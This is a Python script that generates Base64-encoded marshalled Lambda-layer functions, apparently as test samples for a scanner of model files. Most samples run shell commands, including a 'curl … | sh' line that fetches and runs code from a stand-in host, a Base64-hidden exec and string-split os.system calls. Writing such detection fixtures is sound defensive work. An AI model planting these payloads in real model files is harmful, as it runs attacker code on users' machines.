"""Writes the marshalled functions of Lambda layers as the running CPython makes them: one line each, a name and Base64.

Run it with each version: pythonX.Y make.py > X.Y.txt (2.7 knows no function `exec`: without the line `decoded`)
"""
import base64
import marshal


def downloads():
    def layer(x):
        import os
        os.system('curl -s http://x.example/a | sh')
        return x
    return layer


def closure():
    command = 'touch here'

    def layer(x):
        __import__('subprocess').call(command, shell=True)
        return x
    return layer


def computes():
    return lambda x: (x - x.mean()) / (x.std() + 1e-6)


def backend():
    def layer(x, alpha=0.3):
        from tensorflow.keras import backend as K
        return K.maximum(alpha * x, x) + sum([K.relu(part) for part in (x, -x)])
    return layer


LAYERS = [
    ('lambda', lambda x: __import__('os').system('touch here')),
    ('downloads', downloads()),
    ('closure', closure()),
    ('decoded', lambda x: exec(__import__('base64').b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgndG91Y2ggaGVyZScp'))),
    ('hidden', lambda x: [f('touch here') for f in [getattr(__import__('o' + 's'), 'sys' + 'tem')]]),
    ('quiet-computes', computes()),
    ('quiet-backend', backend()),
]

for name, layer in LAYERS:
    code = marshal.dumps(layer.__code__)
    print(name + ' ' + base64.b64encode(code).decode('ascii'))
